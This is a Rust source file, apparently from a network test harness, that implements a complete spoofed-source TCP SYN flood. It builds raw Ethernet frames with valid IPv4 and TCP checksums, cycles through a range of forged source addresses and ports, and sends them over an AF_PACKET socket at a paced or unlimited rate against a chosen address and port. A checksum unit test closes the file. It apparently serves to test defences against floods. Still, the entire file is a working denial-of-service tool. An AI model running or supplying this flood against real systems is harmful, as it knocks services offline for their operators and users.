//! A spoofed-source TCP SYN flood (`syn-flood`): raw Ethernet frames written on an interface with an AF_PACKET
//! socket, as an attacker on the client link would send them. Sources cycle through a prefix (varying source
//! ports), every SYN carries an MSS option and valid checksums, so the target sees well-formed new flows from
//! clients that never answer. Bounded by duration (and an optional count); optionally paced.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{ensure, Result};
use serde::Serialize;

use super::StopFlag;

/// Parameters of a `syn-flood` run.
#[derive(Debug, Clone)]
pub struct SynFloodConfig {
    /// Interface to write on (in the caller's network namespace).
    pub iface: String,
    /// Destination MAC: the target's interface on the link.
    pub dst_mac: [u8; 6],
    /// Source MAC of the frames.
    pub src_mac: [u8; 6],
    /// The VIP and port to flood.
    pub target: SocketAddrV4,
    /// First spoofed source address; sources are `source_base + i % sources`.
    pub source_base: Ipv4Addr,
    /// Number of spoofed source addresses.
    pub sources: u32,
    /// SYNs per second (`None`: as fast as the socket takes them).
    pub rate: Option<f64>,
    /// How long to flood.
    pub duration: Duration,
    /// Stop after this many SYNs.
    pub count: Option<u64>,
}

/// What a `syn-flood` run did.
#[derive(Debug, Clone, Serialize)]
pub struct SynFloodReport {
    /// Always `"syn_flood"`.
    pub scenario: &'static str,
    /// The target.
    pub target: String,
    /// Spoofed source addresses used.
    pub sources: u32,
    /// SYNs per second asked for (`null`: unlimited).
    pub rate_asked: Option<f64>,
    /// SYNs written.
    pub sent: u64,
    /// Writes the socket refused (queue full), retried.
    pub send_errors: u64,
    /// Seconds the flood ran.
    pub duration_s: f64,
    /// SYNs per second written.
    pub rate: f64,
}

/// RFC 1071 checksum of `data` with `sum` already accumulated.
fn csum(mut sum: u32, data: &[u8]) -> u16 {
    for c in data.chunks(2) {
        sum += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A TCP SYN (MSS 1460) as an Ethernet frame with valid checksums.
pub fn syn_frame(macs: ([u8; 6], [u8; 6]), src: SocketAddrV4, dst: SocketAddrV4, isn: u32) -> [u8; 58] {
    let mut f = [0u8; 58];
    f[0..6].copy_from_slice(&macs.0);
    f[6..12].copy_from_slice(&macs.1);
    f[12..14].copy_from_slice(&[0x08, 0x00]);
    let ip = &mut f[14..34];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&44u16.to_be_bytes());
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&src.ip().octets());
    ip[16..20].copy_from_slice(&dst.ip().octets());
    let c = csum(0, ip);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    let tcp = &mut f[34..58];
    tcp[0..2].copy_from_slice(&src.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&isn.to_be_bytes());
    tcp[12] = 6 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let (s, d) = (src.ip().octets(), dst.ip().octets());
    let pseudo = [
        u16::from_be_bytes([s[0], s[1]]),
        u16::from_be_bytes([s[2], s[3]]),
        u16::from_be_bytes([d[0], d[1]]),
        u16::from_be_bytes([d[2], d[3]]),
        6,
        24,
    ]
    .iter()
    .map(|w| u32::from(*w))
    .sum();
    let c = csum(pseudo, tcp);
    tcp[16..18].copy_from_slice(&c.to_be_bytes());
    f
}

/// Floods until the duration, the count or `stop`.
pub fn run(config: &SynFloodConfig, stop: StopFlag) -> Result<SynFloodReport> {
    ensure!(config.sources > 0, "at least one source address");
    let name = std::ffi::CString::new(config.iface.as_str())?;
    // SAFETY: plain libc calls with valid arguments; the fd is closed before returning.
    let fd = unsafe {
        let ifindex = libc::if_nametoindex(name.as_ptr());
        ensure!(
            ifindex != 0,
            "interface {}: {}",
            config.iface,
            std::io::Error::last_os_error()
        );
        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
        ensure!(fd >= 0, "AF_PACKET socket: {}", std::io::Error::last_os_error());
        let mut addr: libc::sockaddr_ll = std::mem::zeroed();
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_ifindex = ifindex as i32;
        addr.sll_halen = 6;
        let r = libc::bind(
            fd,
            (&addr as *const libc::sockaddr_ll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        );
        if r != 0 {
            let e = std::io::Error::last_os_error();
            libc::close(fd);
            anyhow::bail!("bind to {}: {e}", config.iface);
        }
        fd
    };
    let start = Instant::now();
    let (mut sent, mut errors) = (0u64, 0u64);
    let base = u32::from(config.source_base);
    let macs = (config.dst_mac, config.src_mac);
    let limit = config.count.unwrap_or(u64::MAX);
    loop {
        let now = Instant::now();
        if sent >= limit || now >= start + config.duration || stop.load(std::sync::atomic::Ordering::Relaxed) {
            break;
        }
        if let Some(rate) = config.rate {
            let due = start + Duration::from_secs_f64(sent as f64 / rate);
            if due > now {
                std::thread::sleep((due - now).min(Duration::from_millis(10)));
                continue;
            }
        }
        let i = sent as u32;
        let src = SocketAddrV4::new(Ipv4Addr::from(base + i % config.sources), 1024 + (i % 64_000) as u16);
        let frame = syn_frame(macs, src, config.target, i.wrapping_mul(2_654_435_761));
        // SAFETY: sending a valid buffer on the bound socket.
        let n = unsafe { libc::send(fd, frame.as_ptr().cast(), frame.len(), 0) };
        if n < 0 {
            errors += 1;
            std::thread::yield_now();
            continue;
        }
        sent += 1;
    }
    // SAFETY: closing the socket opened above.
    unsafe { libc::close(fd) };
    let duration_s = start.elapsed().as_secs_f64();
    Ok(SynFloodReport {
        scenario: "syn_flood",
        target: config.target.to_string(),
        sources: config.sources,
        rate_asked: config.rate,
        sent,
        send_errors: errors,
        duration_s,
        rate: if duration_s > 0.0 {
            sent as f64 / duration_s
        } else {
            0.0
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_frames_have_valid_checksums() {
        let f = syn_frame(
            ([2; 6], [4; 6]),
            "198.18.128.1:1024".parse().unwrap(),
            "198.18.0.100:80".parse().unwrap(),
            7,
        );
        assert_eq!(csum(0, &f[14..34]), 0, "IPv4 header");
        let pseudo: u32 = [0xc612, 0x8001, 0xc612, 0x0064, 6, 24].iter().sum();
        assert_eq!(csum(pseudo, &f[34..]), 0, "TCP");
        assert_eq!(f[34 + 13], 0x02);
    }
}
